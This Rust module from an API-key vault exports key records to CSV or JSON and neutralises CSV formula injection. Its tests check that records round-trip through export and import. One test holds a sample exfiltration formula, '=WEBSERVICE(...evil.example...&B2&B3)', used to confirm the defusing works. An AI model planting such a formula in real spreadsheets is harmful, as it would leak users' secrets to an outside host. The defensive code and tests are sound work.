//! Writing keys out: the spreadsheet CSV that [`super::read`] reads back (so an export is
//! also a migration file), or JSON. Secrets go in only when the caller passes them; the text
//! that holds them is wiped when dropped.
//!
//! A cell that starts with `=`, `+`, `-`, `@` or a tab would run as a formula in a spreadsheet
//! (CSV injection): such cells, the key's too, get a leading `'`, which the reader removes (as
//! does a cell that starts with `'` and one of those, so the reader cannot take away one that
//! was there). Integrations and tags are joined by `;` with a `\` before each `\`, `;`, `,` and
//! `=` inside them, so each is read back as it was.

use secrecy::{ExposeSecret, SecretString};
use zeroize::Zeroizing;

use crate::vault::model::{KeyRecord, KeyStatus};

/// The columns, in the order written (the reader finds them by name, in any order).
pub const COLUMNS: [&str; 11] = [
    "label",
    "key",
    "provider",
    "integrations",
    "notes",
    "expires",
    "created",
    "rotate_days",
    "tags",
    "status",
    "id",
];

fn status_word(status: &KeyStatus) -> &'static str {
    match status {
        KeyStatus::Active => "active",
        KeyStatus::Retiring => "retiring",
        KeyStatus::Revoked { .. } => "revoked",
    }
}

/// The first characters after which a cell gets a leading `'`.
pub const DEFUSED: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];

/// `text` with a `\` before each character the reader would cut it at.
fn escaped(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if super::ESCAPED.contains(&c) {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// What each key's cells say, but the key.
fn cells(record: &KeyRecord) -> [String; 10] {
    let integrations: Vec<String> = record
        .integrations
        .iter()
        .map(|i| match &i.url {
            Some(url) => format!("{}={}", escaped(&i.name), escaped(url)),
            // A name alone that looks like an address is written `name=`, so it is not read
            // back as an address.
            None if i.name.starts_with("http://") || i.name.starts_with("https://") => {
                format!("{}=", escaped(&i.name))
            }
            None => escaped(&i.name),
        })
        .collect();
    let tags: Vec<String> = record.tags.iter().map(|t| escaped(t)).collect();
    [
        record.label.clone(),
        record.provider.name().to_owned(),
        integrations.join("; "),
        record.notes.clone(),
        record.expires_at.map(|t| t.to_rfc3339()).unwrap_or_default(),
        record.created_at.to_rfc3339(),
        record.rotate_after_days.map(|d| d.to_string()).unwrap_or_default(),
        tags.join("; "),
        status_word(&record.status).to_owned(),
        record.id.to_string(),
    ]
}

/// A cell as CSV writes it: quoted, quotes doubled, a formula start defused (and a `'` the
/// reader would take for a defusing one).
fn quote(cell: &str, out: &mut String) {
    out.push('"');
    let defuse = match cell.strip_prefix('\'') {
        Some(rest) => rest.starts_with(DEFUSED),
        None => cell.starts_with(DEFUSED),
    };
    if defuse {
        out.push('\'');
    }
    for c in cell.chars() {
        if c == '"' {
            out.push('"');
        }
        out.push(c);
    }
    out.push('"');
}

/// The keys as CSV, a header row first; `secrets` (one per record, in order) fill the key
/// column when given.
pub fn csv(records: &[&KeyRecord], secrets: Option<&[SecretString]>) -> Zeroizing<String> {
    let mut out = Zeroizing::new(String::new());
    out.push_str(&COLUMNS.join(","));
    out.push_str("\r\n");
    for (index, record) in records.iter().enumerate() {
        let [label, rest @ ..] = cells(record);
        quote(&label, &mut out);
        out.push(',');
        let secret = secrets.and_then(|s| s.get(index)).map_or("", |s| s.expose_secret());
        quote(secret, &mut out);
        for cell in rest {
            out.push(',');
            quote(&cell, &mut out);
        }
        out.push_str("\r\n");
    }
    out
}

/// The keys as a JSON array of objects; `key` is there only when `secrets` are given.
pub fn json(records: &[&KeyRecord], secrets: Option<&[SecretString]>) -> Zeroizing<String> {
    let mut out = Zeroizing::new(String::from("[\n"));
    for (index, record) in records.iter().enumerate() {
        let [label, provider, _, notes, expires, created, _, _, status, id] = cells(record);
        let integrations: Vec<serde_json::Value> =
            record.integrations.iter().map(|i| serde_json::json!({ "name": i.name, "url": i.url })).collect();
        let meta = serde_json::json!({
            "id": id,
            "label": label,
            "provider": provider,
            "status": status,
            "created": created,
            "expires": (!expires.is_empty()).then_some(expires),
            "rotate_days": record.rotate_after_days,
            "integrations": integrations,
            "notes": notes,
            "tags": record.tags,
        });
        let meta = meta.to_string();
        out.push_str("  {");
        if let Some(secret) = secrets.and_then(|s| s.get(index)) {
            let quoted = Zeroizing::new(serde_json::to_string(secret.expose_secret()).unwrap_or_default());
            out.push_str("\"key\":");
            out.push_str(&quoted);
            out.push(',');
        }
        out.push_str(meta.get(1..).unwrap_or("}"));
        out.push_str(if index + 1 < records.len() { ",\n" } else { "\n" });
    }
    out.push_str("]\n");
    out
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use secrecy::ExposeSecret;

    use super::*;
    use crate::providers::Provider;
    use crate::vault::meta::{self, KeyMeta};
    use crate::vault::model::KeyId;

    /// One line of text as a person may type it: separators, quotes, formula starts, escapes.
    const LINE: &str = "[a-zA-Z0-9 ;,=\\\\'\"@+\\-:/.#é日]{1,30}";

    fn record(label: &str, notes: &str, tags: &[String], integration: (&str, Option<&str>)) -> KeyRecord {
        let meta = KeyMeta {
            label: label.to_owned(),
            notes: notes.to_owned(),
            integrations: vec![meta::integration(integration.0, integration.1.unwrap_or(""))],
            ..KeyMeta::default()
        };
        let mut record = crate::vault::new_key_record(
            KeyId::from_stored("0123456789ab"),
            meta,
            (Provider::Other, ""),
            &SecretString::from("x"),
            String::new(),
            chrono::DateTime::from_timestamp(1_800_000_000, 0).unwrap_or_default(),
        )
        .unwrap();
        record.tags = tags.to_vec();
        record
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]
        #[test]
        fn any_label_note_tag_integration_and_key_survive_export_and_import(
            label in LINE,
            notes in "[a-zA-Z0-9 ;,=\\\\'\"@+\\-\n\t日]{0,60}",
            tags in proptest::collection::vec(LINE, 0..3),
            name in LINE,
            url in proptest::option::of("https://[a-zA-Z0-9;,=\\\\'\"@+\\-:/.#?&é]{1,30}"),
            secret in "[=+\\-@'a-zA-Z0-9][a-zA-Z0-9 ;,=\\\\'\"@+\\-()&]{0,40}[a-zA-Z0-9=()'\"]",
        ) {
            let (label, name) = (label.trim(), name.trim());
            prop_assume!(!label.is_empty() && !name.is_empty());
            let mut kept: Vec<String> = Vec::new();
            for tag in tags.iter().map(|t| t.trim()).filter(|t| !t.is_empty()) {
                if !kept.iter().any(|k| k == tag) {
                    kept.push(tag.to_owned());
                }
            }
            let original = record(label, &notes, &kept, (name, url.as_deref()));
            let written = csv(&[&original], Some(&[SecretString::from(secret.as_str())]));
            let (_, parsed) = super::super::read(written.as_bytes(), None).unwrap();
            prop_assert!(parsed.problems.is_empty(), "{:?}", parsed.problems);
            let row = &parsed.rows[0];
            prop_assert_eq!(row.secret.expose_secret(), secret.as_str());
            prop_assert_eq!(&row.meta.label, &original.label);
            let notes_back = if original.notes.trim().is_empty() { "" } else { original.notes.as_str() };
            prop_assert_eq!(row.meta.notes.as_str(), notes_back);
            prop_assert_eq!(&row.tags, &original.tags);
            let back: Vec<_> = row.meta.integrations.iter().map(|i| (i.name.clone(), i.url.clone())).collect();
            let want: Vec<_> = original.integrations.iter().map(|i| (i.name.clone(), i.url.clone())).collect();
            prop_assert_eq!(back, want);
        }
    }

    #[test]
    fn a_formula_shaped_key_is_defused_and_read_back_whole() {
        let original = record("Sheet", "", &[], ("n8n", None));
        let formula = "=WEBSERVICE(\"https://evil.example/?\"&B2&B3)";
        let written = csv(&[&original], Some(&[SecretString::from(formula)]));
        assert!(written.contains("\"'=WEBSERVICE("), "{}", written.as_str());
        let (_, parsed) = super::super::read(written.as_bytes(), None).unwrap();
        assert_eq!(parsed.rows[0].secret.expose_secret(), formula);
    }
}
